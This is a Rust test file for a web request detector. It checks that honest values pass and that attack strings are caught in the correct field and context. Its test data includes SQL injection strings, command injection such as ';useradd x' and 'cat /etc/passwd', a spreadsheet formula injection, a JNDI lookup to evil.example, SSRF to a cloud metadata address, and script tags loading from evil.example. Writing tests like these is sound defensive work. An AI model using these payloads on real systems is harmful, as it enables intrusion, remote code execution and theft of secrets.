//! Honest values and attacks that look like each other, with the field each stood in: what users of
//! guards reported as wrongly refused, and what their authors reported as missed. No text is a row
//! of a corpus.

mod attacks;
mod honest;

use self::{attacks::ATTACKS, honest::HONEST};
use super::*;
use crate::places::Format;

/// What they are, the part, the field's name, and the texts.
type Texts = (&'static str, Part, &'static str, &'static [&'static str]);

fn families(part: Part, name: &str, text: &str, options: &Options<'_>) -> Vec<(&'static str, &'static str)> {
    let field = Field {
        place: Place { part, name },
        role: Role::Value,
        value: text.as_bytes(),
        spelling: Spelling::Literal,
    };
    let mut found = Vec::new();
    DETECTORS.each(&field, options, &mut |caught| {
        if caught.finding.score >= CERTAIN {
            found.push((caught.family.name(), caught.finding.rule));
        }
        true
    });
    found
}

fn standard(part: Part, name: &str, text: &str) -> Vec<(&'static str, &'static str)> {
    families(part, name, text, &Options::STANDARD)
}

#[test]
fn what_people_and_programs_send_passes() {
    let mut refused = Vec::new();
    for (kind, part, name, texts) in HONEST {
        let found = texts.iter().map(|text| (text, standard(*part, name, text)));
        refused.extend(found.filter(|(_, found)| !found.is_empty()).map(|found| (kind, found)));
    }
    assert!(refused.is_empty(), "{refused:#?}");
}

#[test]
fn what_looks_like_it_is_found() {
    let mut missed = Vec::new();
    for (family, part, name, texts) in ATTACKS {
        let found = texts.iter().map(|text| (text, standard(*part, name, text)));
        missed.extend(found.filter(|(_, found)| !found.iter().any(|(known, _)| known == family)));
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn an_attack_behind_a_long_word_is_found() {
    let word = "A".repeat(9000);
    for (family, attack) in [
        ("sqli", "' UNION SELECT name || ':' || word FROM users"),
        ("sqli", "' or 'x'='x"),
        ("sqli", "') limit 1"),
        ("command", ";useradd x"),
    ] {
        let found = standard(Part::Body, "a", &format!("{word}{attack}"));
        assert!(found.iter().any(|(known, _)| *known == family), "{attack}: {found:?}");
    }
    assert_eq!(standard(Part::Body, "a", &word), []);
}

#[test]
fn a_table_of_a_spreadsheet_passes_where_a_body_is_one() {
    let of = |format| Options {
        context: Context {
            format: Some(format),
            content_type: "text/csv",
            ..Context::NONE
        },
        ..Options::STANDARD
    };
    for text in [
        "name;id;host;uptime;date\nweb1;17;a.example.com;99.9;2024-01-01\n",
        "name;id\nAnna;1\n",
        "Datum;id\r\n01.02.2024;7\r\n",
        "cat;id;ls",
        "cat;id;ls\n1;2;3\n",
    ] {
        assert_eq!(families(Part::Body, "", text, &of(Format::Text)), [], "{text}");
    }
    for text in [
        "name;id\nAnna;1;cat /etc/passwd\n",
        "1.1.1.1;id\nx",
        "cat;id;ls\n1;2;cat /etc/passwd\n",
        "a;b\n=cmd|'/c calc'!A1;2\n",
    ] {
        assert_ne!(families(Part::Body, "", text, &of(Format::Text)), [], "{text}");
    }
}

#[test]
fn a_statement_passes_where_statements_are_reported_and_nowhere_else() {
    let text = "SELECT \"users\".* FROM \"users\" WHERE \"users\".\"email\" = $1 OR 1 = 1 LIMIT 1";
    let options = Options {
        context: Context {
            content_type: "application/x-sentry-envelope",
            ..Context::NONE
        },
        ..Options::STANDARD
    };
    assert_eq!(families(Part::Body, "spans.description", text, &options), []);
    assert_ne!(standard(Part::Query, "id", text), []);
    assert_ne!(families(Part::Body, "id", &format!("1; {text}"), &options), []);
}

/// The path, the type of the body, the field, what stands in it, and whether it passes.
#[rustfmt::skip]
const SENT_TO: &[(&str, &str, &str, &str, bool)] = &[
    ("/csp-report", "application/csp-report", "csp-report.script-sample", "alert(1)", true),
    ("/csp-report", "application/csp-report", "csp-report.script-sample", "eval(\"x\")", true),
    ("/csp-report", "application/csp-report", "csp-report.script-sample", "document.write('<script src=x>')", true),
    ("/csp-report", "application/csp-report", "csp-report.script-sample", "onclick=\"f()\"", true),
    ("/r", "application/reports+json", "body.sample", "javascript:void(0)", true),
    ("/r", "application/reports+json", "body.sample", "window.location = '/x'", true),
    ("/r", "application/json", "body.sample", "alert(1)", false),
    ("/r", "application/json", "script-sample", "alert(1)", false),
    ("/csp-report", "application/csp-report", "csp-report.document-uri", "https://example.com/\"><script>alert(1)</script>", false),
    ("/api/errors", "application/json", "message", "Refused to execute inline script: eval('x')", true),
    ("/api/errors", "application/json", "stack", "#0 /var/www/html/index.php(12): exec('ls')", true),
    ("/api/errors", "application/json", "message", "x <img src=x onerror=alert(1)>", false),
    ("/api/errors", "application/json", "message", "${jndi:ldap://evil.example/a}", false),
    ("/api/run", "application/json", "stack", "system('ls')", false),
    ("/admin/settings", "application/json", "url", "sftp://u@backup.example.com/daily", true),
    ("/admin/settings", "application/json", "url", "ldaps://ldap.corp.example.com:636", true),
    ("/admin/settings", "application/json", "path", "/var/log/nginx", true),
    ("/admin/settings", "application/json", "head_code", "<script async src=\"https://tags.example.com/a.js\"></script>", true),
    ("/admin/settings", "application/json", "url", "sftp://evil.example:11111/", false),
    ("/admin/settings", "application/json", "url", "gopher://evil.example/", false),
    ("/admin/settings", "application/json", "url", "ldap://169.254.169.254/", false),
    ("/admin/settings", "application/json", "path", "/etc/passwd", false),
    ("/admin/settings", "application/json", "path", "/var/www/.env", false),
    ("/admin/settings", "application/json", "name", "<script>alert(1)</script>", false),
    ("/admin/login", "application/json", "code", "<script>alert(1)</script>", false),
    ("/admin/../fetch", "application/json", "url", "sftp://u@backup.example.com/daily", false),
    ("/api/fetch", "application/json", "url", "ldaps://ldap.corp.example.com:636", false),
    ("/api/pages", "application/json", "head_code", "<script src=//evil.example></script>", false),
];

#[test]
fn reports_and_settings_are_told_by_where_they_are_sent() {
    let mut wrong = Vec::new();
    for (path, content_type, name, text, passes) in SENT_TO {
        let options = Options {
            context: Context {
                path,
                content_type,
                format: Some(Format::Json),
            },
            ..Options::STANDARD
        };
        let found = families(Part::Body, name, text, &options);
        if found.is_empty() != *passes {
            wrong.push((path, name, text, found));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}
